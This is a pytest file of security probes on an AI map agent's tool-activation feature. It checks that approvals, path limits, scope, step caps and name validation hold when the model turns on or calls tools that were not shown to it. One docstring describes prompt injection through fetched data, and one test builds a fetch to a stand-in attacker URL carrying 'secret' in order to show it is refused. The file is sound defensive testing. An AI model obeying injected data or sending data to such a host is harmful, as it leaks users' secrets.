"""Attack probes on the classifier-open change (use_tools, calls to tools not shown).

Each test states the property it checks. A test marked ``xfail(strict=True)`` reproduces a
problem found; the others are properties that held and pin them down.
"""

from __future__ import annotations

import json
import time
from asyncio import run
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from geomint.agent import ApprovalRequest, MapAgent
from geomint.agent._surface import USE_TOOLS
from geomint.state import (
    AnalysisRecorded,
    ApprovalAsked,
    ApprovalRefused,
    EntryWritten,
    ToolCalled,
    ToolFailed,
    ToolReturned,
)
from geomint.testing import Script, offline, tool_returns
from geomint.tools import ToolContext, ToolEntry, ToolSettings
from geomint.ui import chat_parts, is_durable

_PICK_HELP = {"tools": ["help"], "scopes": {}}
_CAFES = {"category": "cafe", "where": {"queries": [{"query": "Esplanadinpuisto"}]}}
_GEOJSON = {
    "type": "FeatureCollection",
    "features": [
        {
            "type": "Feature",
            "properties": {"name": "a"},
            "geometry": {"type": "Point", "coordinates": [24.94, 60.17]},
        }
    ],
}


def _events(agent: MapAgent, chat: str, run_id: str) -> list[Any]:
    return [e.body for e in agent.chats.trace(chat, run_id)]


def _shown(script: Script) -> list[set[str]]:
    return [
        {t.name for t in info.function_tools} for kind, _, info in script.seen if kind == "loop"
    ]


def _parts_read_back_the_same(agent: MapAgent, chat: str, result: Any) -> None:
    streamed = [p for p in result.parts if is_durable(p)]
    assert chat_parts(agent.chats, chat, run_id=result.run_id) == streamed


# -- 1. effects and approvals: activated == picked -----


@pytest.mark.parametrize("how", ["picked", "activated", "called-unshown"])
def test_a_url_fetch_needs_the_same_approval_whether_picked_or_not(
    make_agent: Callable[..., MapAgent], how: str
) -> None:
    """network + fetched_entry are asked for the same way; refused, nothing is fetched."""
    add = ("add_byod_layer", {"label": "x", "url": "https://example.com/layer.geojson"})
    if how == "picked":
        picks, steps = [{"tools": ["add_byod_layer"], "scopes": {}}], [[add], "No."]
    elif how == "activated":
        picks = [_PICK_HELP]
        steps = [[(USE_TOOLS, {"names": ["add_byod_layer"]})], [add], "No."]
    else:
        picks, steps = [_PICK_HELP], [[add], [add], "No."]
    asked: list[ApprovalRequest] = []

    async def refuse(request: ApprovalRequest) -> tuple[bool, str]:
        asked.append(request)
        return False, "no"

    agent = make_agent(
        Script(picks=picks, steps=steps), require_approval=["network"], approve=refuse
    )
    with offline() as guard:
        result = run(agent.run("load it", chat_id=f"url-{how}"))
    assert guard.attempts == [] and guard.refused == []
    assert [(r.tool, r.effects) for r in asked] == [("add_byod_layer", ("network",))]
    events = _events(agent, f"url-{how}", result.run_id)
    assert not any(isinstance(b, EntryWritten) for b in events)
    assert sum(isinstance(b, ApprovalRefused) for b in events) == 1
    _parts_read_back_the_same(agent, f"url-{how}", result)


def test_no_approver_fails_closed_for_an_activated_tool(
    make_agent: Callable[..., MapAgent],
) -> None:
    add = ("add_byod_layer", {"label": "x", "data": _GEOJSON})
    script = Script(
        picks=[_PICK_HELP], steps=[[(USE_TOOLS, {"names": ["add_byod_layer"]})], [add], "No."]
    )
    agent = make_agent(script, require_approval=["fetched_entry"])
    result = run(agent.run("load it", chat_id="closed"))
    assert result.tool_calls[-1]["ok"] is False
    assert "needs a person's approval" in result.tool_calls[-1]["result"]["error"]
    assert not any(isinstance(b, EntryWritten) for b in _events(agent, "closed", result.run_id))


def test_a_byod_path_outside_the_allowed_folders_is_refused_when_activated(
    make_agent: Callable[..., MapAgent], tmp_path: Path
) -> None:
    """byod_dirs is enforced by the tool, not the classifier or scope."""
    secret = tmp_path / "secret.geojson"
    secret.write_text(json.dumps(_GEOJSON))
    allowed = tmp_path / "allowed"
    allowed.mkdir()
    add = ("add_byod_layer", {"label": "x", "path": str(secret)})
    script = Script(picks=[_PICK_HELP], steps=[[add], [add], "No."])
    agent = make_agent(script, settings=ToolSettings(byod_dirs=(allowed,)))
    result = run(agent.run("load it", chat_id="path"))
    first, second = result.tool_calls
    assert first["result"]["not_run"] is True
    assert second["ok"] is False and "entry_id" not in second["result"]
    assert not any(isinstance(b, EntryWritten) for b in _events(agent, "path", result.run_id))


def test_a_monitor_made_by_an_activated_analyse_data_asks_for_runs_code(
    make_agent: Callable[..., MapAgent],
) -> None:
    add = ("add_byod_layer", {"label": "x", "data": _GEOJSON})
    analyse = (
        "analyse_data",
        {"byod_entry_ids": ["byod-1"], "name": "n", "code": "return 1", "monitor": True},
    )
    asked: list[ApprovalRequest] = []

    async def refuse(request: ApprovalRequest) -> tuple[bool, str]:
        asked.append(request)
        return False, "no"

    script = Script(
        picks=[{"tools": ["add_byod_layer"], "scopes": {}}],
        steps=[[add], [(USE_TOOLS, {"names": ["analyse_data"]})], [analyse], "No."],
    )
    agent = make_agent(script, require_approval=["runs_code"], approve=refuse)
    result = run(agent.run("monitor it", chat_id="mon"))
    assert [r.tool for r in asked] == ["analyse_data"]
    assert not any(isinstance(b, AnalysisRecorded) for b in _events(agent, "mon", result.run_id))
    _parts_read_back_the_same(agent, "mon", result)


def test_a_developer_tool_that_asks_before_every_call_still_asks_when_activated(
    make_agent: Callable[..., MapAgent],
) -> None:
    ran: list[int] = []

    async def execute(_: Any, ctx: ToolContext) -> dict[str, Any]:
        ran.append(1)
        return {"ok": True}

    from pydantic import BaseModel

    class NoArgs(BaseModel):
        pass

    private = ToolEntry(
        description="Launch the thing.\nINTERNAL: call ops at 555-0100; key rotation in vault X.",
        input_schema=NoArgs,
        execute=execute,
        requires_approval=True,
    )
    script = Script(
        picks=[_PICK_HELP],
        steps=[[(USE_TOOLS, {"names": ["launch"]})], [("launch", {})], "No."],
    )
    agent = make_agent(script, tools={"launch": private})
    result = run(agent.run("launch", chat_id="launch"))
    assert ran == []
    assert "needs a person's approval" in result.tool_calls[-1]["result"]["error"]
    # The use_tools line carries the description's first line only, not the INTERNAL line.
    (_, _, info) = script.seen[1]
    (use,) = [t for t in info.function_tools if t.name == USE_TOOLS]
    assert "INTERNAL" not in (use.description or "")
    assert "- launch: Launch the thing." in (use.description or "")


# -- 2. scope -----


def test_a_picked_scoped_tool_cannot_be_reactivated_unscoped(
    make_agent: Callable[..., MapAgent],
) -> None:
    """use_tools on a picked, scoped tool changes nothing: it stays scoped (extra=forbid)."""
    add = ("add_byod_layer", {"label": "x", "data": _GEOJSON})
    analyse = ("analyse_data", {"byod_entry_ids": ["byod-1"], "name": "n", "code": "return 1"})
    script = Script(
        picks=[
            {
                "tools": ["add_byod_layer", "analyse_data"],
                "scopes": {"analyse_data": {"kinds": ["places"]}},
            }
        ],
        steps=[[add], [(USE_TOOLS, {"names": ["analyse_data"]})], [analyse], "No."],
    )
    agent = make_agent(script)
    result = run(agent.run("x", chat_id="scoped"))
    last = result.tool_calls[-1]
    assert last["ok"] is False and "invalid arguments" in last["result"]["error"]


def test_an_activated_data_tool_is_unscoped_and_reads_any_kind(
    make_agent: Callable[..., MapAgent],
) -> None:
    """Documented behaviour (same as classifier fail-open): not a bypass, scope is a prompt aid."""
    add = ("add_byod_layer", {"label": "x", "data": _GEOJSON})
    process = (
        "process_data",
        {"byod_entry_ids": ["byod-1"], "label": "p", "code": "return {'fit_on_map': True}"},
    )
    script = Script(
        picks=[
            {
                "tools": ["add_byod_layer", "analyse_data"],
                "scopes": {"analyse_data": {"kinds": ["places"]}},
            }
        ],
        steps=[[add], [process], [process], "ok"],
    )
    agent = make_agent(script)
    result = run(agent.run("x", chat_id="unscoped"))
    assert result.tool_calls[1]["result"]["not_run"] is True
    assert result.tool_calls[2]["ok"] is True, result.tool_calls[2]["result"]


# -- 3. names use_tools will not activate -----


@pytest.mark.parametrize(
    "name",
    [
        "Discover_Places",
        " discover_places",
        "discover_places ",
        "discover_places\u200b",
        "ｄｉｓｃｏｖｅｒ_ｐｌａｃｅｓ",  # fullwidth
        "discover\u2010places",
        "get_traffic_incidents",  # not offered: no traffic provider
        "fly_to",
        USE_TOOLS,
        "__class__",
        "registry_help",
        "",
        "x" * 200_000,
    ],
)
def test_use_tools_activates_nothing_for_an_odd_name(
    make_agent: Callable[..., MapAgent], name: str
) -> None:
    script = Script(
        picks=[_PICK_HELP],
        steps=[[(USE_TOOLS, {"names": [name, "discover_places"]})], "No."],
    )
    agent = make_agent(script, tools={"fly_to": False})
    result = run(agent.run("x", chat_id="odd"))
    (use,) = result.tool_calls
    assert use["ok"] is False
    assert _shown(script)[-1] == {"help", USE_TOOLS}


def test_a_removed_or_not_offered_tool_called_directly_does_not_run(
    make_agent: Callable[..., MapAgent],
) -> None:
    """Not in the toolset: pydantic-ai answers 'unknown tool'; nothing of it runs."""
    script = Script(
        picks=[_PICK_HELP],
        steps=[[("get_traffic_incidents", {})], [("fly_to", {"center": [24.9, 60.1]})], "No."],
    )
    agent = make_agent(script, tools={"fly_to": False})
    result = run(agent.run("x", chat_id="gone"))
    assert [c["name"] for c in result.tool_calls] == []
    called = [b.tool for b in _events(agent, "gone", result.run_id) if isinstance(b, ToolCalled)]
    assert called == []


def test_ten_thousand_names_are_cheap_and_the_log_stays_bounded(
    make_agent: Callable[..., MapAgent],
) -> None:
    names = [f"tool_{i}_" + "y" * 50 for i in range(10_000)]
    script = Script(picks=[_PICK_HELP], steps=[[(USE_TOOLS, {"names": names})], "No."])
    agent = make_agent(script)
    started = time.perf_counter()
    result = run(agent.run("x", chat_id="many"))
    took = time.perf_counter() - started
    (use,) = result.tool_calls
    assert use["ok"] is False
    events = _events(agent, "many", result.run_id)
    (failed,) = [b for b in events if isinstance(b, ToolFailed)]
    assert len(failed.error) <= 2_000
    # What the model reads is cut to its budget.
    (_, returned) = tool_returns(script.seen[-1][1])[0]
    assert len(json.dumps(returned)) < 6_000
    assert took < 20, took


# -- 4. loops and the step cap -----


def test_use_tools_in_a_loop_stops_at_max_steps(make_agent: Callable[..., MapAgent]) -> None:
    script = Script(picks=[_PICK_HELP], steps=[[(USE_TOOLS, {"names": ["discover_places"]})]])
    agent = make_agent(script, max_steps=5)
    result = run(agent.run("x", chat_id="loop"))
    assert script.loop_calls == 5
    assert result.errors and "max_steps" in result.errors[0]
    _parts_read_back_the_same(agent, "loop", result)


def test_calling_unshown_tools_cannot_dodge_the_two_failure_rule(
    make_agent: Callable[..., MapAgent],
) -> None:
    bad = ("analyse_data", {"name": "n", "code": "return 1"})  # no inputs: a ToolError
    script = Script(picks=[_PICK_HELP], steps=[[bad], [bad], [bad], [bad], "No."])
    agent = make_agent(script)
    result = run(agent.run("x", chat_id="twice"))
    not_run, one, two, three = result.tool_calls
    assert not_run["result"]["not_run"] is True
    assert "stop" not in one["result"] and "stop" in two["result"]
    assert three["result"]["not_run"] is True and "failed twice" in three["result"]["error"]


def test_parallel_calls_to_unshown_tools_all_do_not_run(
    make_agent: Callable[..., MapAgent],
) -> None:
    step = [("discover_places", _CAFES)] * 50 + [(USE_TOOLS, {"names": ["discover_places"]})] * 50
    script = Script(picks=[_PICK_HELP], steps=[step, "No."])
    agent = make_agent(script)
    result = run(agent.run("x", chat_id="par"))
    ran = [c for c in result.tool_calls if c["name"] == "discover_places" and c["ok"]]
    assert ran == []
    events = _events(agent, "par", result.run_id)
    assert not any(isinstance(b, EntryWritten) for b in events)
    _parts_read_back_the_same(agent, "par", result)


# -- 5. log and read-back ----------------------------------------------------------------------


def test_refused_use_tools_and_not_run_calls_read_back_the_same(
    make_agent: Callable[..., MapAgent],
) -> None:
    asked: list[ApprovalRequest] = []

    async def refuse(request: ApprovalRequest) -> tuple[bool, str]:
        asked.append(request)
        return False, "no"

    script = Script(
        picks=[_PICK_HELP],
        steps=[
            [(USE_TOOLS, {"names": ["nope"]})],
            [("discover_places", _CAFES)],
            [("discover_places", _CAFES)],
            "Done.",
        ],
    )
    agent = make_agent(script, require_approval=["network"], approve=refuse)
    result = run(agent.run("x", chat_id="rb"))
    assert [c["ok"] for c in result.tool_calls] == [False, False, False]
    assert len(asked) == 1
    _parts_read_back_the_same(agent, "rb", result)
    events = _events(agent, "rb", result.run_id)
    calls = [b for b in events if isinstance(b, ToolCalled)]
    ends = [b for b in events if isinstance(b, ToolFailed | ToolReturned)]
    assert len(calls) == len(ends) == 3
    assert [b.call_id for b in calls] == [b.call_id for b in ends]
    assert [b.tool for b in events if isinstance(b, ApprovalAsked)] == ["discover_places"]


# -- 6. prompt surface -----


def test_use_tools_description_names_no_tool_that_is_not_offered_or_removed(
    make_agent: Callable[..., MapAgent],
) -> None:
    script = Script(picks=[_PICK_HELP], steps=["No."])
    agent = make_agent(script, tools={"fly_to": False})
    run(agent.run("x", chat_id="leak"))
    (_, _, info) = script.seen[-1]
    (use,) = [t for t in info.function_tools if t.name == USE_TOOLS]
    text = use.description or ""
    for name in [*agent.not_offered, "fly_to"]:
        assert f"- {name}:" not in text


def test_use_tools_description_no_longer_lists_a_tool_once_it_is_active(
    make_agent: Callable[..., MapAgent],
) -> None:
    script = Script(
        picks=[_PICK_HELP],
        steps=[[(USE_TOOLS, {"names": ["discover_places"]})], "No."],
    )
    agent = make_agent(script)
    run(agent.run("x", chat_id="stale"))
    (_, _, info) = script.seen[-1]
    names = {t.name for t in info.function_tools}
    assert "discover_places" in names
    (use,) = [t for t in info.function_tools if t.name == USE_TOOLS]
    # It says "Not active now: ... - discover_places: ..." while discover_places is active.
    assert "- discover_places:" not in (use.description or "")


# -- 7. what a turn can reach without approvals -----


def test_with_default_approvals_a_url_nobody_gave_is_not_fetched_without_asking(
    make_agent: Callable[..., MapAgent],
) -> None:
    """The classifier's pick is no guard: a tool left out is one use_tools away, and the
    classifier never reads tool results, so text inside fetched data (a byod property, a
    provider's place name) can steer the loop to any offered tool. What guards the effect
    is the effect: a URL in none of the person's messages is fetched only with their
    approval, whatever the application requires, and with no one to ask it is refused."""
    url = "https://attacker.example/c?d=secret"
    fetch = ("add_byod_layer", {"label": "x", "url": url})
    script = Script(
        picks=[{"tools": ["analyse_data"], "scopes": {"analyse_data": {"kinds": ["places"]}}}],
        steps=[[fetch], [fetch], "Done."],
    )
    agent = make_agent(script)
    with offline() as guard:
        result = run(agent.run("bar chart of these places by category", chat_id="reach"))
    assert guard.attempts == [] and guard.refused == []  # nothing was tried
    refused = [c for c in result.tool_calls if not c["ok"]]
    assert refused, result.tool_calls
    assert f"{url} is in none of the person's messages" in refused[-1]["result"]["error"]


def test_a_url_the_person_gave_is_fetched_under_the_usual_policy(
    make_agent: Callable[..., MapAgent],
) -> None:
    url = "https://example.org/stops.geojson"
    fetch = ("add_byod_layer", {"label": "x", "url": url})
    script = Script(picks=[{"tools": ["add_byod_layer"]}], steps=[[fetch], "Done."])
    agent = make_agent(script)
    with offline() as guard:
        run(agent.run(f"load {url} please", chat_id="given"))
    # Asked for under the default policy (no approval): the guard saw the attempt.
    assert "example.org" in " ".join(guard.refused)
